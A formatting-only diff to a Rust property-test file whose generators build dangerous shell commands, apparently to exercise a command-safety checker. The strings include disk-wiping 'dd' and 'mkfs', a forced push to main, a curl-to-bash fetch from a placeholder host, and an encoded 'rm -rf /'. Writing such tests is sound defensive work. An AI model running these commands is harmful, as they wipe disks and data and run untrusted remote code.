@@ -93,10 +93,22 @@ fn force_push() -> BoxedStrategy<String> {
         Just("-fu"),
         Just("-uf"),
     ];
-    let branch = prop_oneof![Just("main"), Just("master"), Just("production"), Just("refs/heads/main"), Just("HEAD:main")];
+    let branch = prop_oneof![
+        Just("main"),
+        Just("master"),
+        Just("production"),
+        Just("refs/heads/main"),
+        Just("HEAD:main")
+    ];
     (spell_program("git"), force, branch, 0..4u8)
         .prop_flat_map(|(git, force, branch, order)| {
-            (Just(git), spell_plain("push"), spell_plain(force), spell_plain(branch), Just(order))
+            (
+                Just(git),
+                spell_plain("push"),
+                spell_plain(force),
+                spell_plain(branch),
+                Just(order),
+            )
         })
         .prop_map(|(git, push, force, branch, order)| match order {
             0 => format!("{git} {push} {force} origin {branch}"),
@@ -112,7 +124,8 @@ fn other_critical() -> BoxedStrategy<String> {
         (spell_program("sudo"), spell_plain("ls")).prop_map(|(s, l)| format!("{s} {l}")),
         (spell_program("sudo"), spell_plain("-u")).prop_map(|(s, u)| format!("{s} {u} root id")),
         spell_program("mkfs.ext4").prop_map(|m| format!("{m} /dev/sdb1")),
-        (spell_program("dd"), spell_plain("of=/dev/sda")).prop_map(|(d, o)| format!("{d} if=/dev/zero {o} bs=1M")),
+        (spell_program("dd"), spell_plain("of=/dev/sda"))
+            .prop_map(|(d, o)| format!("{d} if=/dev/zero {o} bs=1M")),
         spell_plain("bash").prop_map(|b| format!("curl -fsSL https://example.test/i.sh | {b}")),
         spell_plain("sh").prop_map(|b| format!("echo cm0gLXJmIC8K | base64 -d | {b}")),
         spell_plain("eval").prop_map(|e| format!("{e} \"$(cat x)\"")),
@@ -156,7 +169,11 @@ fn wrap((cmd, simple): (String, bool), how: u8) -> (String, bool) {
         _ => None,
     };
     if let Some(p) = prefix {
-        return if simple { (format!("{p} {cmd}"), true) } else { (cmd, simple) };
+        return if simple {
+            (format!("{p} {cmd}"), true)
+        } else {
+            (cmd, simple)
+        };
     }
     match how {
         6 => (format!("bash -c {}", single_quote(&cmd)), true),
